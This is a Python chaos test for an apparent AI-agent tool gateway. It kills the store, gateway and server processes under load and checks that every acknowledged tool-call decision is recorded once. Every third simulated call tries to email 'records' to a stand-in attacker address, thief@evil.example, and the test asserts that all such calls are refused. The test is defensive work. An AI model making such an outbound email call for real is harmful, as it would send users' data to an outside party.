"""kill -9 of any process under load: nothing acknowledged is lost or doubled, no call goes out without its record."""

from __future__ import annotations

import asyncio
import itertools
import json
from collections import Counter
from pathlib import Path
from typing import Any

import aiohttp
import pytest

from scenarios.company import Company, headers, rpc, running, wait_until

pytestmark = pytest.mark.slow


class Load:
    """Concurrent callers; each call carries an id of its own, so that the far end can be compared with the record."""

    def __init__(self, company: Company, callers: int) -> None:
        self.company, self.callers = company, callers
        self.acknowledged: list[str] = []
        """Invocation ids that a caller was told."""
        self.succeeded: list[str] = []
        self.refused = 0
        self.broken = 0
        self._keys = itertools.count()
        self._stop = asyncio.Event()

    async def _caller(self, session: aiohttp.ClientSession, token: str) -> None:
        url = f"{self.company.gateway}/mcp/mail"
        while not self._stop.is_set():
            key = f"key-{next(self._keys)}"
            # Every third call is one that must be refused: mail to the outside.
            attack = int(key.removeprefix("key-")) % 3 == 0
            tool = "send_email" if attack else "lookup"
            arguments: dict[str, Any] = (
                {"to": ["thief@evil.example"], "subject": key, "body": "records"} if attack else {"key": key}
            )
            try:
                async with session.post(url, json=rpc(tool, arguments), headers=headers(token, tool)) as response:
                    invocation = response.headers.get("watchfloor-invocation")
                    body = await response.json(content_type=None)
            except (aiohttp.ClientError, TimeoutError, ValueError):
                self.broken += 1
                await asyncio.sleep(0.01)
                continue
            if invocation:
                self.acknowledged.append(invocation)
            if "result" in body:
                assert not attack, f"an attack was allowed: {body}"
                self.succeeded.append(key)
            else:
                self.refused += 1

    async def run(self, seconds: float, during: list[tuple[float, str]]) -> None:
        """Load for ``seconds``; at each (time, name) of ``during`` that process is killed."""
        token = self.company.token("griffin")
        timeout = aiohttp.ClientTimeout(total=10)
        async with aiohttp.ClientSession(timeout=timeout) as session:
            callers = [asyncio.create_task(self._caller(session, token)) for _ in range(self.callers)]
            started = asyncio.get_running_loop().time()
            for at, name in during:
                await asyncio.sleep(max(0.0, started + at - asyncio.get_running_loop().time()))
                self.company.kill(name)
            await asyncio.sleep(max(0.0, started + seconds - asyncio.get_running_loop().time()))
            self._stop.set()
            await asyncio.gather(*callers)


def _recorded(company: Company) -> list[dict[str, Any]]:
    """Every decision on record, through the API, page by page."""
    found: list[dict[str, Any]] = []
    after = 0
    while True:
        page = company.api("GET", f"/api/decisions?limit=1000&after={after}")["items"]
        if not page:
            return found
        found += page
        after = max(int(row["IngestSeq"]) for row in page)


@pytest.mark.claim("invariant-1")
@pytest.mark.claim("invariant-3")
@pytest.mark.parametrize(
    "kills",
    [
        [(1.0, "store"), (2.5, "gateway-0"), (4.0, "server"), (5.5, "gateway-1"), (7.0, "store")],
    ],
    ids=["store-gateway-server"],
)
async def test_every_acknowledged_decision_is_stored_once_and_no_call_lacks_its_record(
    tmp_path: Path, kills: list[tuple[float, str]]
) -> None:
    with running(tmp_path, environment={"WATCHFLOOR_LEASE_SECONDS": "5"}) as company:
        company.api("DELETE", "/api/policies/rate")  # it would stop this agent for calling too often
        load = Load(company, callers=6)
        await load.run(9.0, kills)
        assert len(load.succeeded) > 200, company.logs()
        wait_until(company.is_answering, 30, "return of the server")

        def settled() -> bool:
            ids = {row["InvocationId"] for row in _recorded(company)}
            return set(load.acknowledged) <= ids

        wait_until(settled, 30, "arrival of every acknowledged decision in the store")
        rows = [r for r in _recorded(company) if r["ActionType"] == "ToolCallDecided"]
        times = Counter(r["InvocationId"] for r in rows)
        assert [i for i, n in times.items() if n != 1] == []
        assert len({r["ReportId"] for r in rows}) == len(rows)

        # At the far end: each call that reached the tool has one recorded decision that let it out.
        reached = [call["key"] for call in company.calls_at_the_tool() if call["tool"] == "lookup"]
        assert [c for c in company.calls_at_the_tool() if c["tool"] == "send_email"] == []
        assert len(reached) >= len(load.succeeded)
        allowed = Counter()
        for row in rows:
            if row["Verdict"] == "allow":
                allowed[row["InvocationId"]] += 1
        assert len(reached) <= sum(allowed.values())
        recorded_keys = Counter(_keys_of(company, list(allowed)))
        assert [key for key in reached if recorded_keys[key] != 1] == []


def _keys_of(company: Company, invocations: list[str]) -> list[str]:
    """The ``key`` argument of each recorded invocation, from the content tier."""
    keys = []
    for start in range(0, len(invocations), 500):
        answer = company.api("POST", "/api/decisions/contents", json={"invocations": invocations[start : start + 500]})
        for item in answer["items"]:
            content = item["Content"] if isinstance(item["Content"], dict) else json.loads(item["Content"])
            keys.append(str(content["arguments"]["key"]))
    return keys
